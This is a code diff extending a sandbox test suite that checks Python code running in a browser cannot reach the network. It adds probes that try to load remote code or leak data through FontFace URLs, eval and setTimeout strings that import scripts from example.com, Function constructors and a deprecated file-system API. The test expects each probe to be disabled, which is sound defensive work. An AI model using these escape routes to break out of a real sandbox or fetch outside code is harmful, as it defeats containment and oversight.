@@ -98,6 +98,14 @@ probes = {
     "navigator.storage": lambda: js.navigator.storage.getDirectory(),
     "BroadcastChannel": lambda: js.BroadcastChannel.new("another-tab"),
     "postMessage": lambda: js.postMessage("forged"),
+    # A font's url() is fetched when the face loads; Chromium's old file system outlives the page.
+    "FontFace": lambda: js.FontFace.new("x", "url(https://example.com/leak6)").load(),
+    "webkitRequestFileSystemSync": lambda: js.webkitRequestFileSystemSync(0, 4096),
+    # Code from strings could write import('https://...'): refused even without a CSP.
+    "eval": lambda: js.eval("import('https://example.com/leak7.js')"),
+    "Function": lambda: js.Function.new("return 1"),
+    "a function's constructor": lambda: js.Object.getPrototypeOf(js.Object.keys).constructor.new("return 1"),
+    "setTimeout with a string": lambda: js.setTimeout("import('https://example.com/leak8.js')", 0),
 }
 
 def postmessage_on_prototypes():
@@ -157,6 +165,12 @@ describe('Python code cannot reach the network', () => {
       'BroadcastChannel',
       'postMessage',
       'prototype postMessage',
+      'FontFace',
+      'webkitRequestFileSystemSync',
+      'eval',
+      'Function',
+      "a function's constructor",
+      'setTimeout with a string',
     ]) {
       expect(lines).toContain(`${api}: disabled`);
     }
